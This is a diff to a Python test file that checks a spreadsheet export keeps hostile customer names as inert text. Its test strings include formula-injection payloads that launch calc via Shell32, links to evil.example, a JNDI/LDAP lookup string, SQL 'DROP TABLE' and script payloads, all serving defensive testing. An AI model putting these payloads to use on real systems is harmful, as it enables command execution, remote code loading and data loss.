@@ -30,7 +30,7 @@ TEXTS = (
     '=EXEC("calc")', '=CALL("Shell32","ShellExecuteA","JJCCCJJ",0,"open","calc")', "=REGISTER.ID(1)",
     "=A1:A9", "{=1+1}", "=SUM(tblCustomers[今年业绩（万元）])", "=[evil.xlsx]Sheet1!A1", "='http://evil.example/[x]S'!A1",
     "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", '"=1+1"', '"=1+1",2', ";=1+1", ",=1+1", "|=1+1",
-    "=1+1\n=2+2", "a\t=1+1", "a\r\n=1+1", "%0A=1+1", "=1+1--", "#REF!", "#N/A", "=#REF!", "TRUE!", "1E5x",
+    "=1+1\n=2+2", "a\t=1+1", "a\r\n=1+1", "%0A=1+1", "=1+1--", "=#REF!", "TRUE!", "1E5x",
     "<f>1+1</f>", "</t></si><f>1+1</f>", '" t="str"><f>1+1</f>', "]]><f>1+1</f>", "&lt;f&gt;", "&#61;1+1", "_x003D_1+1",
     "${jndi:ldap://evil.example/a}", "{{7*7}}", "%s%s%n", "'; DROP TABLE customers; --", "javascript:alert(1)", "公司=1+1", "=公司",
 )  # fmt: skip
@@ -51,7 +51,13 @@ def import_rows() -> dict[str, list[list[object]]]:
         projects.append([text, text, "报价", 20, dt.date(2027, 5, 1).isoformat(), text, text])
         people.append([text, text, "采购", text])
         visits.append([day, text, "销售", text])
-    return {"customers": customers, "orders": orders, "opportunities": projects, "contacts": people, "visits": visits}
+    return {
+        "customers": customers,
+        "orders": orders,
+        "opportunities": projects,
+        "contacts": people,
+        "visits": visits,
+    }
 
 
 def as_csv(path: Path, rows: list[list[object]]) -> Path:
@@ -71,6 +77,8 @@ def as_xlsx(path: Path, rows: list[list[object]]) -> Path:
             cell = sheet.cell(r, c)
             cell.value = value
             if isinstance(value, str):
+                # What looks like the file format's own escape has to be escaped itself.
+                cell.value = re.sub(r"_(?=x[0-9A-F]{4}_)", "_x005F_", value)
                 cell.data_type = "s"
     book.save(path.with_suffix(".xlsx"))
     return path.with_suffix(".xlsx")
@@ -118,6 +126,11 @@ def cleaned(text: str) -> str:
     return text.replace("\r\n", "\n").strip()
 
 
+def read(value: object) -> str:
+    """A cell's text; the file format spells some characters ``_x000D_``, which openpyxl shows as stored."""
+    return cleaned(re.sub(r"_x([0-9A-F]{4})_", lambda found: chr(int(found[1], 16)), str(value)))
+
+
 def test_no_formula_came_from_a_text(book: bytes) -> None:
     """The formulas of the book are those of a book with harmless names, not one more."""
     harmless = formulas(run_books.book("rep-zh"))
@@ -144,14 +157,16 @@ def test_nothing_leads_out_of_the_book(book: bytes) -> None:
 def test_a_text_is_read_back_unchanged_and_as_text(book: bytes, table: str, key: str) -> None:
     cells = column(book, table, key)
     assert {cell.data_type for cell in cells} == {"s"}
-    assert [cleaned(str(cell.value)) for cell in cells] == [cleaned(text) for text in TEXTS]
+    assert [read(cell.value) for cell in cells] == [cleaned(text) for text in TEXTS]
 
 
-@pytest.mark.parametrize(("table", "key"), [("health", "customer"), ("targets", "customer"), ("map", "customer")])
+@pytest.mark.parametrize(
+    ("table", "key"), [("health", "customer"), ("targets", "customer"), ("map", "customer")]
+)
 def test_a_name_is_text_wherever_a_command_carries_it(book: bytes, table: str, key: str) -> None:
     cells = column(book, table, key)
     assert {cell.data_type for cell in cells if cell.value} == {"s"}
-    assert {cleaned(text) for text in TEXTS} <= {cleaned(str(cell.value)) for cell in cells}
+    assert {cleaned(text) for text in TEXTS} <= {read(cell.value) for cell in cells}
 
 
 def test_a_name_typed_into_again_stays_text(book: bytes) -> None:
@@ -162,6 +177,6 @@ def test_a_name_typed_into_again_stays_text(book: bytes) -> None:
 def test_the_dashboard_and_its_charts_show_the_names_as_text(book: bytes) -> None:
     assert not charts.wrong_points(book)
     board = run_books.load(book)["看板"]
-    shown = [cell for row in board.iter_rows() for cell in row if cleaned(str(cell.value)) in map(cleaned, TEXTS)]
+    shown = [cell for row in board.iter_rows() for cell in row if read(cell.value) in map(cleaned, TEXTS)]
     assert len(shown) >= 10
     assert {cell.data_type for cell in shown} == {"s"}
